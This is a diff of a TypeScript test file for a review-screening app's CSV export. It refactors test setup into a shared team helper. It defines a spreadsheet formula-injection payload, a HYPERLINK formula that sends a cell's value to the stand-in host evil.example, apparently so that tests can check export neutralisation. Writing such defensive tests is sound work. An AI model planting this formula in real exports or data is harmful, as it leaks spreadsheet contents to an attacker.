@@ -4,44 +4,25 @@ import { describe, expect, it } from 'vitest'
 import { decisions, records, resolutions } from '../../src/db/schema.ts'
 import { prismaInvariants, prismaRows, type Prisma } from '../../src/domain/prisma.ts'
 import { csvLines, neutralise } from '../../src/http/csv.ts'
-import { addToProject, makeProject, makeUser, signedIn, testApp } from '../helpers/app.ts'
+import { reviewTeam } from '../helpers/team.ts'
 import { distinctRecords, risFile } from '../helpers/ris.ts'
 
 const INJECTION = '=HYPERLINK("http://evil.example/?x="&A1,"Click for details")'
 
 async function setup() {
-  const ctx = await testApp()
-  const lead = await makeUser(ctx.db, 'lead@example.org', 'Lena Lead')
-  const ann = await makeUser(ctx.db, 'ann@example.org', 'Ann Assistant')
-  const bob = await makeUser(ctx.db, 'bob@example.org', 'Bob Second')
-  const project = await makeProject(ctx.db, lead.id)
-  await addToProject(ctx.db, project.id, ann.email, 'reviewer')
-  await addToProject(ctx.db, project.id, bob.email, 'reviewer')
-  const leadClient = await signedIn(ctx.app, lead.email)
-  const base = `/projects/${project.id}`
+  const team = await reviewTeam()
   const rs = distinctRecords(4, 'Exported')
   rs[1] = { ...rs[1]!, title: '+Plus-sign title, with "quotes"' }
-  await leadClient.upload(`${base}/imports`, { source: 'Scopus', kind: 'database' }, [
-    { name: 's.ris', content: risFile(rs) },
-  ])
-  await leadClient.upload(`${base}/imports`, { source: 'Trials', kind: 'register' }, [
-    { name: 't.ris', content: risFile([...distinctRecords(1, 'Trial'), rs[0]!]) },
-  ])
-  await ctx.jobs.idle()
-  const rows = await ctx.db.orm.select().from(records).orderBy(asc(records.id))
+  await team.upload('Scopus', risFile(rs))
+  await team.upload('Trials', risFile([...distinctRecords(1, 'Trial'), rs[0]!]), 'register')
+  const rows = await team.db.orm.select().from(records).orderBy(asc(records.id))
   const ids = rows.map((r) => r.id)
-  const a = await signedIn(ctx.app, ann.email)
-  const b = await signedIn(ctx.app, bob.email)
-  const vote = async (client: typeof a, id: number, decision: string, note = '') => {
-    const res = await client.post(`${base}/records/${id}/decisions`, {
-      stage: 'title_abstract',
-      decision,
-      note,
-    })
+  const vote = async (client: typeof team.a, id: number, decision: string, note = '') => {
+    const res = await team.vote(client, id, decision, { note })
     expect(res.status).toBe(303)
-    ctx.clock.now += 1000
+    team.clock.now += 1000
   }
-  return { ...ctx, lead, ann, bob, project, base, rows, ids, a, b, leadClient, vote }
+  return { ...team, rows, ids, vote }
 }
 
 /** A short history: a changed vote, an undo, a conflict resolved with a hostile note. */
